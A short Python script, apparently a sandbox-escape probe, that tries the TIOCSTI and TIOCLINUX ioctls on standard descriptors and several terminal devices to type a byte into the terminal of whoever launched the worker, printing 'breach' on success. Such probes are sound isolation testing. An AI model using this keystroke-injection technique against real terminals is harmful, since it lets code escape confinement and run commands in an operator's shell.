"""Type into the terminal of whoever started the worker (TIOCSTI, TIOCLINUX)."""

import fcntl
import os

for path in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0"):
    try:
        file = path if isinstance(path, int) else os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    for request in (0x5412, 0x541C, 0x5412 | (1 << 32)):
        try:
            fcntl.ioctl(file, request & 0xFFFFFFFF, b"x")
            print("breach: typed into", path)
        except OSError:
            pass
print("done")
